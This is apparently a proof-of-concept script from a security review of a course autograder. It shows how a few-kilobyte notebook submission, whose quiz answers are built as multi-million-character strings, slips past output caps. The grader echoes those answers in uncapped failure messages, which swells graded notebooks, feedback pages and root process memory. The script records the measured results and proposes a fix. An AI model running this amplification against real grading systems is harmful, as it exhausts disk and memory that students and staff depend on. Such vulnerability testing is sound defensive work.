"""Round 12, a03 (ROOT run): the grader's own failure messages are not capped: a student value echoed by a judge
(`{answer!r}`) goes into the graded notebook, the feedback page and the grader's memory whole.

The kernel's outputs are capped (1 MB a message, 2 MB a cell, 10 MB a notebook: "300 MB of prints never reach
the graded notebook or the feedback"), and a hand-in over 64 MiB is refused. But a test cell's failed verdict
is written into the cell by the grader (grader.judge._verdict -> _error("AssertionError", str(exc)) ->
_fail inserts it), with no length limit; autograders.common.judge_choice (every quiz of ps1-ps5) says
`not {answer!r}` for an answer that is not one letter. The answer is built in the kernel (`q1 = "x" * N`): the
hand-in stays a few kB. The only bounds are the hand-over (64 MB pickled) and the report of a cell (64 MB).

Hand-in: the untouched ps1 release with the five quiz answers set to N-character strings.
Usage: python a03_verdict_message_amplification.py [N]   (course /tmp/attack12-course-4)
"""
import os, sys, subprocess, shutil, time
sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
from attack_course import notebook, ROOT, show
import nbformat

N = int(sys.argv[1]) if len(sys.argv) > 1 else 30_000_000

if __name__ == "__main__":
    dest = "/tmp/attack12-course-4"
    shutil.rmtree(dest, ignore_errors=True)
    subprocess.run([os.path.join(ROOT, ".venv/bin/python"), "-c",
                    f"from grader.course import copy_course; copy_course({dest!r})"], cwd=ROOT, check=True)
    over = {f"quiz_q{i}": f"q{i} = \"{chr(96 + i)}\" * {N}" for i in range(1, 6)}
    nb = notebook(overrides=over)
    d = os.path.join(dest, "submitted", "amplifier", "ps1_memory"); os.makedirs(d)
    nbformat.write(nb, os.path.join(d, "ps1_memory.ipynb"))
    print("hand-in bytes:", os.path.getsize(os.path.join(d, "ps1_memory.ipynb")))
    env = {**os.environ, "DATABASE_URL": "postgresql://ta:secret@localhost/x"}
    t = time.time()
    p = subprocess.Popen([os.path.join(ROOT, ".venv/bin/python"), "-m", "grader.grade", "--course-dir", dest, "--workers", "1"],
                         cwd=ROOT, env=env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    peak = 0
    import psutil
    while p.poll() is None:   # peak RSS of the grader's own (host, uid 0) processes
        try:
            procs = [psutil.Process(p.pid)] + psutil.Process(p.pid).children(recursive=True)
            for q in procs:
                try:
                    if q.uids().real == 0:
                        peak = max(peak, q.memory_info().rss)
                except psutil.Error:
                    pass
        except psutil.Error:
            pass
        time.sleep(0.5)
    out = p.stdout.read()
    print(out[-2500:])
    print(f"graded in {time.time() - t:.0f}s; peak RSS of one grader process {peak / 2**20:.0f} MiB")
    show(dest)
    for root, _, files in os.walk(dest):
        for f in files:
            path = os.path.join(root, f)
            if os.path.getsize(path) > 1_000_000:
                print(f"{os.path.getsize(path) / 2**20:8.1f} MiB  {path}")

# RESULT (root): BROKEN (caps bypassed; disk and memory of the grader, the TA's Formgrader page).
#   N = 10,000,000 (19:36-19:39 UTC, a03_10M.out.txt): a 40,411-byte hand-in (the untouched release, five quiz
#     answers `q1 = "a" * 10_000_000` ...) graded "graded", 0/30, and left
#       95.5 MiB  autograded/amplifier/ps1_memory/ps1_memory.ipynb   (kernel output is capped at 10 MB a notebook)
#       47.9 MiB  feedback/amplifier/ps1_memory/ps1_memory.html
#     peak RSS of a grader process (host, uid 0) 777 MiB; 52 s for the submission. Each quiz cell holds the
#     judge's message "q1: answer with one letter of a, b, c, d (as a string), not 'aaaa...'" twice (evalue and
#     the one-line traceback), 10 MB each. The 2,500-fold growth is on the grader's disk, in the feedback a student
#     downloads and in the page the TA's Formgrader renders from autograded/.
#   N = 30,000,000 (19:33-19:35 UTC, a03.out.txt): peak RSS 1,823 MiB, then the submission "failed" (its 2 GiB
#     grading child), nothing else harmed: the cap on the grading child holds, which bounds the notebook to
#     about 100-200 MB per submission (any judge message that repeats a student value: `returned {got!r}` ...).
# Fix: shorten every verdict message the grader writes into a cell (judge._fail / _verdict: as _error_output
#   shortens the kernel's errors, e.g. 10,000 characters), and count it in the notebook's output budget.
